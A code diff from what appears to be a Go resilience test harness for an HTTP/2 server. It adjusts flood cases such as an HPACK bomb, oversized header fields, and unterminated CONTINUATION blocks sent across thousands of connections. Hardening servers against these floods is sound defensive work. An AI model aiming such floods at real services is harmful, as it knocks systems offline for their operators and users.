@@ -195,7 +195,7 @@ func h2Floods() []*attack {
 		flood("h2-hpack-bomb", "a field of 4 KB, four times in the head of each call by its index", h2Open(1, "Echo", h2End, big...), func(i uint32) []byte {
 			return h2Call(odd(i), "Wait", 1, h2Newest, h2Newest, h2Newest, h2Newest)
 		}),
-		flood("h2-hpack-fields", "60 KB of indices in the head of each call", nil, func(i uint32) []byte {
+		flood("h2-hpack-fields", "16 KB of indices in the head of each call", nil, func(i uint32) []byte {
 			return h2Frame(h2Headers, h2End|h2EndHeaders, odd(i), append(h2Head("Echo"), []byte(strings.Repeat("\x90", 16000))...)...)
 		}),
 		flood("h2-binary-values", "a value of 4,000 values, four times in the head of each call by its index", h2Open(1, "Echo", h2End, commas...), func(i uint32) []byte {
@@ -282,13 +282,15 @@ func h2Holds() []*attack {
 				return append(h2Open(odd(i), "Wait", 0, value...), h2Frame(h2Data, 0, odd(i), 0)...)
 			})
 		}},
-		{name: "h2-blocks-torn", why: "60 KB of a header block that does not end on each of 2,000 connections", bound: oneAddress, run: func(x *attacker) {
+		{name: "h2-blocks-torn", why: "60 KB of a header block that does not end on each of 4,500 connections", bound: oneAddress, run: func(x *attacker) {
 			b := append(h2Hello(h2FirstWindow), h2Frame(h2Headers, 0, 1, h2Head("Echo")...)...)
 			for range 4 {
 				b = append(b, h2Frame(h2Continuation, 0, 1, []byte(strings.Repeat("\x90", 15000))...)...)
 			}
-			x.many(2000, func(int) {
-				x.say(x.dial(), b)
+			x.many(90, func(int) {
+				for range 50 {
+					x.say(x.dial(), b)
+				}
 				x.wait()
 			})
 		}},
